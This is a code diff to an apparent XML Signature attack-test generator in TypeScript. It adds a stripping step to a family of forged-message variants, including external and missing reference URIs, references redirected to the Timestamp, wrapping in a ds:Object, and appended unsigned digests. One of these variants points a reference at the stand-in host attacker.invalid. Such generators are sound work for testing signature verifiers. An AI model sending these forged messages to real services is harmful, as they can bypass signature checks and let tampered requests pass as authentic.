@@ -5,6 +5,7 @@ import { type AttackFamily, type Draft, EVIL } from './attack.js';
 import { after, append, by, content, prepend, remove, set, unset } from './edit.js';
 import { digestOf, resealed } from './reseal.js';
 import { node, nodes, withoutId } from './secured-message.js';
+import { unlisted } from './stripping.js';
 
 const EMPTY_SHA1 = '2jmj7l5rSw0yVb/vlWAYkK/YBwk=';
 
@@ -16,6 +17,7 @@ export const references: AttackFamily = function* (message, options) {
   const { reference, id, element } = first;
   const value = child(reference, ds('DigestValue'));
   const evil = { ...withoutId(element), children: nodes(options.body ?? EVIL) };
+  const gone = unlisted(message, element);
 
   const uris: Readonly<Record<string, string>> = {
     'external-http': 'http://attacker.invalid/body.xml',
@@ -36,7 +38,7 @@ export const references: AttackFamily = function* (message, options) {
     'case-changed': `#${id.toUpperCase()}x`,
   };
   for (const [what, uri] of Object.entries(uris)) {
-    const edited = message.with([reference, set('URI', uri)], [element, by(evil)]);
+    const edited = message.with([reference, set('URI', uri)], [element, by(evil)], ...gone);
     yield {
       name: `references/${what}`,
       about: `The reference to the ${element.local} has the URI "${uri}", and the ${element.local} is forged.`,
@@ -51,7 +53,7 @@ export const references: AttackFamily = function* (message, options) {
   yield doctored(
     'without-uri',
     'A reference without URI leaves it to the receiver what is signed.',
-    message.with([reference, unset('URI')], [element, by(evil)]),
+    message.with([reference, unset('URI')], [element, by(evil)], ...gone),
     'all',
   );
   yield doctored(
@@ -95,7 +97,7 @@ export const references: AttackFamily = function* (message, options) {
     yield doctored(
       'to-another-part',
       `The reference to the ${element.local} is turned to the Timestamp, which is then signed twice.`,
-      message.with([reference, set('URI', `#${timestamp.id}`)], [element, by(evil)]),
+      message.with([reference, set('URI', `#${timestamp.id}`)], [element, by(evil)], ...gone),
     );
   }
   yield doctored(
@@ -124,6 +126,7 @@ export const references: AttackFamily = function* (message, options) {
         }),
       ],
       [element, by({ ...evil, attributes: element.attributes })],
+      ...gone,
     ),
   );
   yield doctored(
@@ -133,6 +136,7 @@ export const references: AttackFamily = function* (message, options) {
       [reference, set('URI', '#object')],
       [signature, append({ ...node(`<ds:Object xmlns:ds="${DS}" Id="object"/>`), children: [withoutId(element)] })],
       [element, by(evil)],
+      ...gone,
     ),
   );
   yield doctored(
@@ -145,20 +149,17 @@ export const references: AttackFamily = function* (message, options) {
     yield doctored(
       'appended-unsigned',
       'A reference with the digest of the forged part is added without signing anew.',
-      message.with(
-        [element, by({ ...evil, attributes: element.attributes })],
-        [
-          reference,
-          after({
-            ...reference,
-            children: reference.children.map((each) =>
-              typeof each === 'object' && each.kind === 'element' && isNamed(each, ds('DigestValue'))
-                ? { ...each, children: [digestOf({ ...evil, attributes: element.attributes }, reference)] }
-                : each,
-            ),
-          }),
-        ],
-      ),
+      message.with([element, by({ ...evil, attributes: element.attributes })], ...gone, [
+        reference,
+        after({
+          ...reference,
+          children: reference.children.map((each) =>
+            typeof each === 'object' && each.kind === 'element' && isNamed(each, ds('DigestValue'))
+              ? { ...each, children: [digestOf({ ...evil, attributes: element.attributes }, reference)] }
+              : each,
+          ),
+        }),
+      ]),
       'all',
     );
   }
